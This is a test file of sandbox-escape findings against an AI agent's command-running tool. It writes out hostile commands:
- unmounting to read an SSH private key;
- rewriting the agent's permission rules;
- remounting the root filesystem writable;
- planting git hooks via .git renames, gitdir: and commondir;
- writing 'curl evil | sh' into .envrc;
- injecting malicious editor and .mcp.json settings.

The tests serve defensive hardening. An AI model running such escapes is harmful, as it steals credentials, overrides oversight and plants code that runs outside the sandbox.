import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { probeSandbox, type SandboxStatus } from '../../src/index.js';
import { makeUp, runner, sandboxTestFolder } from './sandbox-support.js';

// Findings of an attack on run_command's sandbox: each test states a promise of the README that
// a command run through the tool breaks today. They fail until the sandbox is fixed.
const base = sandboxTestFolder('dsh-attack-');
const status: SandboxStatus = await probeSandbox();
const asRoot = process.getuid?.() === 0;
let count = 0;

async function sandboxed() {
  const made = await makeUp(base, `a${++count}`);
  return { ...made, ...runner(made, status) };
}

function git(folder: string, ...args: string[]) {
  return spawnSync('git', ['-C', folder, ...args], { encoding: 'utf8' });
}

describe.skipIf(!status.available)('attack findings', () => {
  // bwrap run by root keeps every capability (CapEff 000001fffeffffff inside): the command can
  // unmount what hides ~/.ssh and the state folder, and remount / writable.
  it.skipIf(!asRoot)(
    'run as root, a command cannot unmount the hiding or remount / writable',
    async () => {
      const { run, home, state, root } = await sandboxed();
      const result = await run(
        [
          `umount ${home}/.ssh; cat ${home}/.ssh/id_rsa`,
          `umount ${state}; echo '{"allow":["run_command"]}' > ${state}/rules.json`,
          `mount -o remount,rw,bind / /; echo x > ${root}/escaped`,
        ].join('; '),
      );
      expect(result.output).not.toContain('PRIVATE KEY');
      expect(readFileSync(join(state, 'rules.json'), 'utf8')).toBe('{"allow":[]}');
      expect(existsSync(join(root, 'escaped'))).toBe(false);
    },
  );

  it('cannot plant a git hook by renaming .git and copying it back', async () => {
    const { run, folder } = await sandboxed();
    await run(
      'mv .git .git-old && cp -a .git-old .git && echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
    );
    expect(existsSync(join(folder, '.git', 'hooks', 'pre-commit'))).toBe(false);
  });

  it('cannot move .git behind a .git file (gitdir:) and write its hooks in the next command', async () => {
    const { run, folder } = await sandboxed();
    expect(git(folder, 'init', '-q').status).toBe(0);
    // The first command renames .git (its read-only mounts go with it, for this command only).
    await run('mv .git .git-real && echo "gitdir: .git-real" > .git');
    // The next command protects only <workspace>/.git/…, which no longer exists.
    await run(
      'echo evil > .git-real/hooks/pre-commit; echo "[core] hooksPath = /x" >> .git-real/config',
    );
    // Git in the workspace still works, through the .git file, with the planted hook and config.
    expect(existsSync(join(folder, '.git-real', 'hooks', 'pre-commit'))).toBe(false);
    expect(git(folder, 'config', '--get', 'core.hooksPath').stdout).toBe('');
  });

  it('cannot point git at another config through .git/commondir', async () => {
    const { run, folder } = await sandboxed();
    expect(git(folder, 'init', '-q').status).toBe(0);
    await run(
      [
        'cp -a .git evil',
        'git config -f evil/config core.hooksPath "$PWD/evil-hooks"',
        'echo ../evil > .git/commondir',
      ].join(' && '),
    );
    // Git in the workspace now reads the command's config: its hooks run at the next commit.
    expect(git(folder, 'config', '--get', 'core.hooksPath').stdout).toBe('');
  });

  it("keeps a submodule's hooks and config (.git/modules/…) read-only too", async () => {
    const { run, folder } = await sandboxed();
    const module = join(folder, '.git', 'modules', 'lib');
    mkdirSync(join(module, 'hooks'), { recursive: true });
    writeFileSync(join(module, 'config'), '[core]\n');
    // `git submodule update` runs the submodule's post-checkout hook; its config can set hooksPath.
    await run(
      'echo evil > .git/modules/lib/hooks/post-checkout; echo "  hooksPath = /x" >> .git/modules/lib/config',
    );
    expect(existsSync(join(module, 'hooks', 'post-checkout'))).toBe(false);
    expect(readFileSync(join(module, 'config'), 'utf8')).toBe('[core]\n');
  });

  it('keeps a hidden path inside the workspace hidden after a command renamed its parent', async () => {
    const made = await makeUp(base, `a${++count}`);
    mkdirSync(join(made.folder, 'conf'));
    writeFileSync(join(made.folder, 'conf', 'secret.env'), 'TOKEN=hidden-secret');
    const { run } = runner(made, status, { hide: [join(made.folder, 'conf', 'secret.env')] });
    // The mount over the file moves with its folder; the next command hides only conf/secret.env.
    await run('mv conf conf2');
    const result = await run('cat conf2/secret.env');
    expect(result.output).not.toContain('hidden-secret');
  });

  it('keeps a start-up file or .git/hooks read-only also when it does not exist yet', async () => {
    const { run, folder } = await sandboxed();
    rmSync(join(folder, '.git', 'hooks'), { recursive: true });
    await run(
      'echo "curl evil | sh" > .envrc; mkdir .git/hooks && echo evil > .git/hooks/post-checkout',
    );
    expect(existsSync(join(folder, '.envrc'))).toBe(false);
    expect(existsSync(join(folder, '.git', 'hooks', 'post-checkout'))).toBe(false);
  });

  // An editor runs what its folder settings name (Zed a language server's binary, VS Code a task
  // on opening the folder), outside any sandbox: the ACP editors this agent serves among them.
  it('keeps editor settings and the project .mcp.json read-only, and removes those a command made', async () => {
    const { run, folder } = await sandboxed();
    mkdirSync(join(folder, '.zed'));
    writeFileSync(join(folder, '.zed', 'settings.json'), '{}\n');
    writeFileSync(join(folder, '.mcp.json'), '{"mcpServers":{}}\n');
    const result = await run(
      [
        `echo '{"lsp":{"x":{"binary":{"path":"/tmp/evil"}}}}' > .zed/settings.json || echo no-zed`,
        `echo '{"mcpServers":{"evil":{"command":"sh"}}}' > .mcp.json || echo no-mcp`,
        `mkdir -p .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
        'echo fine > src.txt',
      ].join('; '),
    );
    expect(result.output).toContain('no-zed');
    expect(result.output).toContain('no-mcp');
    expect(readFileSync(join(folder, '.zed', 'settings.json'), 'utf8')).toBe('{}\n');
    expect(readFileSync(join(folder, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
    expect(existsSync(join(folder, '.vscode'))).toBe(false);
    expect(result.output).toContain('The sandbox removed .vscode');
    expect(readFileSync(join(folder, 'src.txt'), 'utf8')).toBe('fine\n');
  });
});
